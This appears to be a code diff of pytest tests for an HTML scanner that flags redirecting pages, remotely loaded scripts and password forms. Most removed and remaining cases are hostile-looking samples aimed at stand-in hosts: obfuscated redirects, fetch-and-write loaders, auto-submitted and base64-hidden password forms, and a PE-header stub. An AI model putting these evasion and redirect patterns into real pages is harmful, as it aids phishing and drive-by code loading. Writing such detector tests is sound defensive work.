@@ -13,10 +13,9 @@ from gateway.model.content import Observation, Text
 
 PROGRAM = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(range(256))
 B64 = base64.b64encode(PROGRAM).decode()
+WORDS = "<p>" + "There is something to read here. " * 40
 OFFERS = "<script>l.href=URL.createObjectURL(new Blob([new Uint8Array(u)]))</script>"
 WRITER = "<script>a.href=URL.createObjectURL(new Blob([x]));a.click()</script>"
-WORDS = "<p>" + "There is something to read here. " * 40
-FRAME = "<iframe src='https://h.example/l' style='width:100%;height:100%'></iframe>"
 
 
 def acts(source: str) -> dict[str, str]:
@@ -41,50 +40,6 @@ def test_files_in_all_places_of_a_page_that_writes_one(source):
     assert not [i for i in active(parse(source), source) if isinstance(i, Child)] or "<script" in source
 
 
-@pytest.mark.parametrize("source", [
-    "<meta http-equiv=refresh content='0;url=https://h.example/'>", "<script>location.href='https://h.example/#'+x</script>",
-    "<script>window.location.replace(\"//h.example\")</script>",
-    "<form id=f action='https://h.example/s'></form><script>f.submit()</script>", "<script src='https://h.example/a.js'></script>",
-    "<script>fetch('https://h.example/a').then(r=>r.text()).then(t=>document.write(t))</script>",
-    "<script>new WebSocket('wss://h.example').onmessage=e=>document.write(e.data)</script>",
-    "<script type=module>import 'https://h.example/a.mjs'</script>", "<meta content='0;url=https:h.example' http-equiv=\"Refresh\">",
-    "<script>self['location']['href']='https://h.example/'</script>", "<script>var u='https://h.example';location=u</script>",
-    "<script>location='elpmaxe.h//:sptth'.split('').reverse().join('')</script>", "<a id=x href='//h.example'></a><script>x.click()</script>",
-    "<script>document.write('<iframe src=https://h.example>')</script>", "<title>" + "Please wait. " * 30 + "</title><script>open('a');top.location="
-    "'https://h.example'</script>", "<p>You are being redirected.</p>" * 12 + "<script>location.href='https://h.example/'</script>",
-    "<script>with(location)href='https://h.example/'</script>", "<script>location.host='h.example'</script>",
-    "<script>a=document.createElement('a');a.href='\\x68ttps://h.example';a.click()</script>", "<meta/http-equiv=refresh/content='0;//h.example'>",
-    "<script>window['loc'+'ation'].replace('hXXps://h.example'.replace('XX','tt'))</script>", "<!--https://h.example--><script>location=x</script>",
-    "<meta http-equiv='&#114;efresh' content='0, &#104;ttps://h.example'>", "<script>document.write('<scr'+'ipt src='+atob(a)+'>')</script>",
-    "<base href='https://h.example/'><form action=p id=f></form><script>f.submit()</script>", "<script>s.src='//h.example/x'</script>", FRAME,
-    "<script>eval(function(p,a,c,k,e,d){return p}('0.1=\\'2://3.4/\\'',10,5,'location|href|https|h|example'.split('|'),0,{}))</script>",
-])
-def test_doors(source):
-    assert "HTML-DOOR" in acts(source)
-    assert "HTML-DOOR" not in acts(source + WORDS)
-
-
-@pytest.mark.parametrize("source", [
-    "<script>window.location.replace('com/x/package-summary.html')</script>", "<meta http-equiv=refresh content='0;url=index2.html'>",
-    "<noscript><meta http-equiv=refresh content='0; url=https://h.example/?noscript=1'></noscript>",
-    "<script src='https://h.example/charts.js'></script><script>draw(" + "1.5, " * 100 + "2)</script>",
-    "<script src='a.js'></script>", "<form action='https://h.example/s'></form>", "<iframe src='https://h.example/' width=560></iframe>",
-    "<frameset><frame src='toc.html'></frameset><script>if (top.page) top.classFrame.location = top.page;</script>",
-    "<p>" + "words to read " * 9 + "<button onclick=\"location.href='https://h.example/'\">Open</button>",
-    "<script src='https://h.example/a.js'></script><table>" + "<tr><td>1234.5</td><td>77</td></tr>" * 30 + "</table>",
-    "<!DOCTYPE html PUBLIC '' 'http://www.w3.org/TR/html4/frameset.dtd'><script>p=''+window.location.search;top.f.location=p</script>",
-    "<form action='https://h.example/s'><input type=submit></form><script>function go(){document.forms[0].submit()}</script>",
-    "<form action='https://h.example/s'><input type=password></form><script>f.submit()</script>",
-    "<script>document.write(unescape(\"%3Cscript src='\" + (document.location.protocol == \"https:\" ? \"https://sb\" : \"http://b\")))</script>",
-    "<script>j=d.createElement(s);j.src='https://www.googletagmanager.com/gtm.js?id='+i</script>",
-    "<p>新聞</p>" * 61 + "<script>location=u;v='https://h.example'</script>",
-    "<script>data=[{u:'https://h.example/a'}];o.innerHTML=data[0].u</script>", "<script>" + "function(){return 1};" * 50 + "location=u;v='https://h'</script>",
-    "<script>if (location.hash == 'x') location.hash = ''; location = '#top'; location.replace('a.html')</script>", "<a href='https://h.example/'>x</a>",
-])
-def test_other_pages_are_no_doors(source):
-    assert "HTML-DOOR" not in acts(source)
-
-
 def test_forms_hidden_in_code():
     form = "<form action=https://h.example/p><input type=password name=p></form>"
     for coded in (f"atob('{base64.b64encode(form.encode()).decode()}')", "unescape('" + "".join(f"%{ord(c):02x}" for c in form) + "')"):
@@ -97,35 +52,6 @@ def test_forms_hidden_in_code():
     ("<b type=password>", False), ("<input " * 60 + "type=password>", True), ("type=password " * 3000, False)])
 def test_fields_for_passwords(markup, asked):
     assert ("HTML-PASSWORD" in acts(markup)) is asked
-
-
-def test_words_in_the_colour_of_the_ground_are_nothing_to_read():
-    filler, leaves = "lorem ipsum dolor sit amet " * 40, "<script>location.href='https://h.invalid/'</script>"
-    assert "HTML-DOOR" in acts(f"<p style='color:#fff'>{filler}</p>{leaves}")
-    assert "HTML-DOOR" not in acts(f"<p style='color:#333'>{filler}</p>{leaves}")
-    assert "HTML-DOOR" not in acts(f"<body style='background:#003'><p style='color:#fff'>{filler}</p>{leaves}")
-
-
-@pytest.mark.parametrize("script", [
-    "location=['h','t','t','p'].reduce((a,b)=>a+b)", "location=[[1,'t'],[0,'h']].sort().map(x=>x[1]).join('')",
-    "location=String.fromCodePoint(0x68,0x74)", "location=new TextDecoder().decode(new Uint8Array([104,116]))",
-    "Promise.resolve('aHR0cHM6Ly94').then(atob).then(u=>open(u,'_top'))", "<![CDATA[loc]]>\n<![CDATA[ation='https://h.invalid']]>"])
-def test_ways_out_written_in_codes(script):
-    assert acts(f"<script>{script}</script>")["HTML-DOOR"] == "leaves for another page"
-
-
-def test_links_that_a_script_presses():
-    assert "HTML-DOOR" in acts("<a id=l href='https://h.invalid/'></a><script>l.dispatchEvent(new MouseEvent('click'))</script>")
-    assert "HTML-DOOR" not in acts("<script>window.dispatchEvent(new Event('resize'))</script>")
-    assert "HTML-DOOR" not in acts("<script>location = location.pathname.split('/').slice(0, -1).join('/')</script>")
-
-
-@pytest.mark.parametrize("page", [
-    "<applet code=A.class archive='http://h.invalid/a.jar'></applet>", "<object classid='clsid:1' codebase='http://h.invalid/a.cab'></object>",
-    "<style>b{width:expression(location='https://h.invalid')}</style>"])
-def test_programs_of_old_browsers(page):
-    assert "HTML-DOOR" in acts(page)
-    assert "HTML-DOOR" not in acts(READ + page)
 
 
 def test_declarations_that_give_elements_handlers():
